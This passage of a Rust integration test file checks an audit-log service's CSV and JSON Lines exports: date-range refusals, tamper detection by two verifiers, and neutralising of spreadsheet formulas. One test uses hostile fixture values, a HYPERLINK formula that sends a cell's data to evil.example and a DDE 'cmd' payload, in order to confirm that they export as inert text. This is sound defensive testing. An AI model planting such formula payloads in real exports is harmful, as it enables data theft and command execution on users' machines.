/// and `scripts/verify-audit-export.py`, each with whether it passed and
/// what it printed.
fn verifiers(export: &[u8], ext: &str, filtered: bool) -> [(bool, String); 2] {
    let file = std::env::temp_dir().join(format!("audit-{}.{ext}", uuid::Uuid::new_v4()));
    std::fs::write(&file, export).expect("write");
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../scripts/verify-audit-export.py"
    );
    let flag: &[&str] = if filtered { &["--filtered"] } else { &[] };
    let said = |out: std::process::Output| {
        (
            out.status.success(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    };
    let gatehouse = said(
        Command::new(BIN)
            .args(["audit", "verify", "--export"])
            .arg(&file)
            .args(flag)
            .output()
            .expect("gatehouse runs"),
    );
    let python = said(
        Command::new("python3")
            .arg(script)
            .arg(&file)
            .args(flag)
            .output()
            .expect("python3 runs"),
    );
    let _ = std::fs::remove_file(&file);
    [gatehouse, python]
}

/// An export cut into its records (CSV) or lines (JSON Lines), each with
/// its line end, so rows can be moved or removed as someone editing the
/// file would.
fn export_lines(export: &[u8], ext: &str) -> Vec<Vec<u8>> {
    if ext == "jsonl" {
        return export
            .split_inclusive(|b| *b == b'\n')
            .map(<[u8]>::to_vec)
            .collect();
    }
    // A record ends at a CRLF outside quotes (a doubled quote inside a
    // quoted cell toggles twice).
    let mut lines = Vec::new();
    let (mut start, mut quoted) = (0, false);
    for (i, byte) in export.iter().enumerate() {
        match byte {
            b'"' => quoted = !quoted,
            b'\n' if !quoted && i > 0 && export[i - 1] == b'\r' => {
                lines.push(export[start..=i].to_vec());
                start = i + 1;
            }
            _ => {}
        }
    }
    assert!(start == export.len(), "the export ends with a record's end");
    lines
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn a_name_or_comment_that_is_a_spreadsheet_formula_is_exported_as_text_and_still_verifies(
    pool: PgPool,
) {
    let app = demo_queue(pool.clone()).await;
    const NAME: &str = r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#;
    const COMMENT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    // A QA engineer whose sign-in provider gives a formula as their name
    // signs in and rejects a request with a formula as the reason.
    sqlx::query(
        r#"INSERT INTO users (id, login, display_name, roles, provider, issuer, subject, person)
           VALUES (gen_random_uuid(), 'eve', $1, '{qa}', 'demo', '', 'eve', 'demo:eve')"#,
    )
    .bind(NAME)
    .execute(&pool)
    .await
    .expect("eve");
    let eve = app.person("eve", &["qa"]).await;
    let request: uuid::Uuid = sqlx::query_scalar(
        "SELECT id FROM approval_requests WHERE state = 'pending' AND environment_id = 'qa' ORDER BY pipeline LIMIT 1",
    )
    .fetch_one(&pool)
    .await
    .expect("a QA request");
    let request = request.to_string();
    let voted = eve
        .call(
            "approvals/decide",
            &[
                ("request", request.as_str()),
                ("decision", "reject"),
                ("comment", COMMENT),
            ],
        )
        .await;
    assert_eq!(voted.status(), 200);
    server::adapters::db::audit::chain_pending(&pool)
        .await
        .expect("chained");

    let manager = reader(&app, "morgan.lee").await;
    let (status, export) = download(&manager, &format!("{}/audit/export.csv", app.base)).await;
    assert_eq!(status, 200);
    let mut cells = Vec::new();
    let mut csv_reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(&export[..]);
    for record in csv_reader.records() {
        cells.extend(record.expect("record").iter().map(str::to_owned));
    }
    let formulas: Vec<&String> = cells
        .iter()
        .filter(|c| c.starts_with(app::encode::FORMULA_STARTS))
        .collect();
    assert!(
        formulas.is_empty(),
        "cells a spreadsheet would run: {formulas:?}"
    );
    // The name, the reason and the summaries that start with the name are
    // text that starts with a quote.
    assert!(cells.iter().any(|c| *c == format!("'{NAME}")), "the name");
    assert!(
        cells.iter().any(|c| *c == format!("'{COMMENT}")),
        "the reason"
    );
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with(&format!("'{NAME} signed in"))),
        "the sign-in's summary"
    );
    // The hashes are of the values, so both verifiers still agree.
    for (ok, said) in verifiers(&export, "csv", false) {
        assert!(ok, "{said}");
        assert!(said.contains("audit export verified"), "{said}");
    }
    // JSON Lines keeps the values as they are.
    let (status, lines) = download(&manager, &format!("{}/audit/export.jsonl", app.base)).await;
    assert_eq!(status, 200);
    let lines = String::from_utf8(lines).expect("utf8");
    assert!(lines.lines().any(|l| {
        serde_json::from_str::<serde_json::Value>(l)
            .is_ok_and(|v| v["actor_name"] == NAME && v["comment"] == COMMENT)
    }));
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn dates_the_database_cannot_hold_are_refused_in_a_sentence_not_a_500_or_a_cut_off_download(
    pool: PgPool,
) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    seed(&pool, 5).await;
    let manager = reader(&app, "morgan.lee").await;
    let words = "is outside the dates the audit log covers (1970-01-01 to 9999-12-31)";
    for (name, value) in [
        ("from", "-262143-01-01"),
        ("to", "-4713-01-01"),
        ("from", "1969-12-31"),
    ] {
        let response = manager
            .get(format!("{}/audit?{name}={value}", app.base))
            .send()
            .await
            .expect("page");
        assert_eq!(response.status(), 400, "/audit?{name}={value}");
        let page = response.text().await.expect("html");
        assert!(page.contains(words), "{page}");
        for ext in ["csv", "jsonl"] {
            let response = manager
                .get(format!("{}/audit/export.{ext}?{name}={value}", app.base))
                .send()
                .await
                .expect("export");
            assert_eq!(response.status(), 400);
            assert!(response.headers()["content-type"]
                .to_str()
                .is_ok_and(|t| t.starts_with("text/plain")));
            let said = response.text().await.expect("a whole answer");
            assert_eq!(
                said,
                format!("The {name} date \u{201c}{value}\u{201d} {words}.")
            );
        }
        let (status, body) = audit_view(&manager, &app.base, &[(name, value)]).await;
        assert_eq!(status, 400, "{body}");
        assert!(body.contains(words), "{body}");
    }
    // The widest range the filters take is the whole log.
    let (status, export) = download(
        &manager,
        &format!(
            "{}/audit/export.csv?from=1970-01-01&to=9999-12-31",
            app.base
        ),
    )
    .await;
    assert_eq!(status, 200);
    for (ok, said) in verifiers(&export, "csv", false) {
        assert!(ok, "{said}");
        assert!(said.contains("from the chain's first row"), "{said}");
    }
    // A value given twice is refused in words, not in the framework's.
    let response = manager
        .get(format!(
            "{}/audit/export.csv?from=2026-01-01&from=2026-02-01",
            app.base
        ))
        .send()
        .await
        .expect("export");
    assert_eq!(response.status(), 400);
    assert_eq!(
        response.text().await.expect("body"),
        server::http::query::REFUSAL
    );
}

#[sqlx::test(migrator = "server::adapters::db::MIGRATOR")]
async fn an_export_missing_its_first_or_last_rows_or_with_rows_swapped_fails_both_verifiers_in_words(
    pool: PgPool,
) {
    let app = spawn(pool.clone(), Mode::Demo).await;
    seed(&pool, 40).await;
    let manager = reader(&app, "morgan.lee").await;
    let both_refuse = |export: &[u8], ext: &str, filtered: bool, words: &str| {
        for (ok, said) in verifiers(export, ext, filtered) {
            assert!(!ok, "{ext}: passed: {said}");
            assert!(said.contains(words), "{ext}: {said}");
        }
    };
    for ext in ["csv", "jsonl"] {
        let (status, export) =
            download(&manager, &format!("{}/audit/export.{ext}", app.base)).await;
        assert_eq!(status, 200);
        let lines = export_lines(&export, ext);
        // CSV: the column header, then the start line; JSON Lines: the
        // start line. Then rows 1, 2, ... and the end line.
        let first = if ext == "csv" { 2 } else { 1 };
        for (ok, said) in verifiers(&export, ext, false) {
            assert!(ok, "{said}");
            assert!(said.contains("from the chain's first row"), "{said}");
        }

        let mut edited = lines.clone();
        edited.remove(first);
        both_refuse(
            &edited.concat(),
            ext,
            false,
            "audit chain broken at row 1: row 1 is missing: the export's start line says it starts after row 0, but its first row is 2",
        );

        let mut edited = lines.clone();
        edited.swap(first + 30, first + 33);
        both_refuse(
            &edited.concat(),
            ext,
            false,
            "audit chain broken at row 31: out of order: row 34 comes before rows 31 to 33 in the export",
        );

        let mut edited = lines.clone();
        edited.remove(edited.len() - 2);
        both_refuse(&edited.concat(), ext, false, "rows, but the export has");

        let mut edited = lines.clone();
        edited.truncate(lines.len() - 3);
        both_refuse(
            &edited.concat(),
            ext,
            false,
            "the export ends here without its end line",
        );

        // The start line removed as well as the first row.
        let mut edited = lines.clone();
        edited.drain(first - 1..=first);
        both_refuse(
            &edited.concat(),
            ext,
            false,
            "audit chain broken at row 2: the export's start line is missing",
        );
    }
    // A filtered export says so; its first row cannot go either.
    let (status, export) = download(
        &manager,
        &format!("{}/audit/export.jsonl?team=mobile", app.base),
    )
    .await;
    assert_eq!(status, 200);
    both_refuse(&export, "jsonl", false, "check it with --filtered");
    for (ok, said) in verifiers(&export, "jsonl", true) {
        assert!(ok, "{said}");
        assert!(said.contains("places where rows were left out"), "{said}");
    }
    let mut edited = export_lines(&export, "jsonl");
    edited.remove(1);
    both_refuse(
        &edited.concat(),
        "jsonl",
        true,
        "missing: the export's start line says it starts after row",
    );
}
